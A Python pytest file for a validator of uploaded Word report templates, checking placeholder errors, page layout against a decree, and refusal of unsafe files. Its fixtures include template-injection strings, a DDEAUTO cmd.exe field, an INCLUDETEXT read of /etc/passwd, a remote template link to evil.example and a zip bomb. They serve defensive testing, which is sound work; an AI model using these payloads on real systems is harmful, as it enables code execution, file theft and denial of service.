"""Templates that people upload: harmless ones pass, whatever could run, fetch or grow is refused, each mistake is named with its place."""

import io
import zipfile

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Mm

from imports.reader.limits import Refused
from reporting.document.template import template_process
from reporting.document.template.package import MAX_BYTES
from reporting.document.template.refusals import TemplateRefused, describe_deviations, describe_problem
from reporting.document.template.standard_template import standard_template
from reporting.document.template.template_check import check_template


@pytest.fixture
def changed():
    """Return the standard template after `change(document)`, or with parts of its package replaced or added."""

    def make(change=None, **parts):
        document, buffer = Document(io.BytesIO(standard_template())), io.BytesIO()
        if change:
            change(document)
        document.save(buffer)
        output = io.BytesIO()
        with zipfile.ZipFile(buffer) as before, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as after:
            for name in before.namelist():
                after.writestr(name, parts.pop(name, None) or before.read(name))
            for name, content in parts.items():
                after.writestr(name, content)
        return output.getvalue()

    return make


def test_the_standard_template_passes_its_own_check():
    report = check_template(standard_template())
    assert (report.problems, report.omissions, report.deviations) == ([], [], [])


@pytest.mark.parametrize(
    ("code", "problem", "name", "suggestion"),
    [
        ("{{ so_ky_hieuu }}", "unknown", "so_ky_hieuu", "so_ky_hieu"),
        ("{% if la_phan %}{% endif %}", "unknown", "la_phan", "muc.la_phan"),
        ("{{ muc.doann }}", "unknown", "muc.doann", "muc.doan"),
        ("{{ muc }}", "not_text", "muc", ""),
        ("{% for a in co_quan %}{% endfor %}", "not_a_list", "co_quan", ""),
        ("{% for a in muc %}{% for b in muc %}x{% endfor %}{% endfor %}", "not_allowed", "muc", ""),
        ("{{ 'a'*10**10 }}", "not_allowed", "", ""),
        ("{{ co_quan.__class__ }}", "not_allowed", "__class__", ""),
        ("{{ co_quan.upper() }}", "not_allowed", "", ""),
        ("{{ ''.__class__.__mro__ }}", "not_allowed", "", ""),
        ("{{ co_quan|attr('x') }}", "not_allowed", "attr", ""),
        ("{{ self._TemplateReference__context }}", "unknown", "self", ""),
        ("{% set x = co_quan %}", "not_allowed", "", ""),
        ("{% include 'x' %}", "not_allowed", "", ""),
        ("{% for x in range(9) %}{% endfor %}", "not_allowed", "", ""),
    ],
)
@pytest.mark.parametrize("place", ["body", "header"])
def test_code_beyond_placeholders_is_refused_with_its_paragraph(changed, code, problem, name, suggestion, place):
    def add(document):
        paragraphs = document.paragraphs if place == "body" else document.sections[0].header.paragraphs
        paragraphs[0].add_run(f" Tổng {code} lượt")

    found = check_template(changed(add)).problems[0]
    number = 11 if place == "body" else 1  # ten stand in the tables above the title
    assert (found.code, found.part, found.paragraph, found.name, found.suggestion) == (problem, place, number, name, suggestion)
    assert code[:10] in found.text or name in found.text


def test_messages_name_the_place_and_what_was_meant(changed):
    content = changed(lambda document: document.paragraphs[0].add_run("Tổng {{ noi_nhann }} lượt"))
    check = template_process.check_template(content)
    assert [describe_problem(problem) for problem in check.problems] == [
        "Đoạn 11 (“{{ ten_loai }}Tổng {{ noi_nhann }} lượt”): không có chỗ điền “noi_nhann”. Có phải là “noi_nhan”?"
    ]


def test_code_split_over_runs_and_curly_quotes_is_read_as_word_leaves_it(changed):
    def split(document):
        for part in ("{", "{ so_", "ky_hieu ", "}}"):
            document.paragraphs[0].add_run(part).bold = len(part) > 2

    assert check_template(changed(split)).problems == []
    assert check_template(changed(lambda document: document.paragraphs[0].add_run("{{ “x” }}"))).problems[0].code == "not_allowed"


def test_a_template_without_its_text_or_with_a_number_on_page_one_is_refused(changed):
    def empty(document):
        for paragraph in list(document.paragraphs):
            paragraph._p.getparent().remove(paragraph._p)

    assert {(problem.code, problem.name) for problem in check_template(changed(empty)).problems} == {
        ("missing", "muc"),
        ("missing", "muc.doan"),
    }

    def same_first_page(document):
        document.sections[0].different_first_page_header_footer = False

    assert [problem.code for problem in check_template(changed(same_first_page)).problems] == ["page_numbers"]
    without_field = changed(lambda document: document.sections[0].header.paragraphs[0].clear())
    assert [problem.code for problem in check_template(without_field).problems] == ["page_numbers"]


def test_a_page_that_differs_from_the_decree_is_named_in_words_and_taken(changed):
    def widen(document):
        section = document.sections[0]
        section.left_margin, section.top_margin, section.page_width = Mm(25), Mm(25.4), Mm(216)

    check = template_process.check_template(changed(widen))
    assert check.problems == []
    assert describe_deviations(check.deviations) == "khổ giấy 216 × 297 mm (quy định 210 × 297 mm); lề trái 25 mm (quy định 30–35 mm)"

    def lie_on_its_side(document):
        section = document.sections[0]
        section.page_width, section.page_height = section.page_height, section.page_width

    assert template_process.check_template(changed(lie_on_its_side)).deviations == []


def add_field(instruction):
    def add(document):
        run = document.paragraphs[0].add_run()
        for kind, text in (("begin", None), (None, instruction), ("end", None)):
            element = OxmlElement("w:fldChar" if kind else "w:instrText")
            if kind:
                element.set(qn("w:fldCharType"), kind)
            element.text = text
            run._r.append(element)

    return add


EXTERNAL = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
    'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("change", "parts", "code"),
    [
        (None, {"word/vbaProject.bin": b"x"}, "macros"),
        (None, {"word/embeddings/oleObject1.bin": b"x"}, "macros"),
        (None, {"word/_rels/settings.xml.rels": EXTERNAL}, "outside"),
        (None, {"word/bomb.xml": b" " * (41 * 2**20)}, "zip_bomb"),
        (None, {"word/settings.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}, "unsafe_xml"),
        (add_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), {}, "field"),
        (add_field(' INCLUDETEXT "/etc/passwd" '), {}, "field"),
        (add_field(" PAGE {{ so_ky_hieu }} "), {}, "field"),
    ],
)
def test_files_that_do_more_than_hold_text_are_refused(changed, change, parts, code):
    with pytest.raises(Refused) as refusal:
        check_template(changed(change, **parts))
    assert refusal.value.code == code


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty_file"),
        (b"x" * (MAX_BYTES + 1), "too_large"),
        (b"%PDF-1.7 ...", "not_docx"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + b"x" * 600, "old_word"),
        (b"PK\x03\x04 no zip", "damaged"),
    ],
)
def test_what_is_no_template_at_all_is_refused_with_a_sentence(content, code):
    with pytest.raises(TemplateRefused) as refusal:
        template_process.check_template(content)
    assert refusal.value.code == code and refusal.value.messages[0].endswith(".")
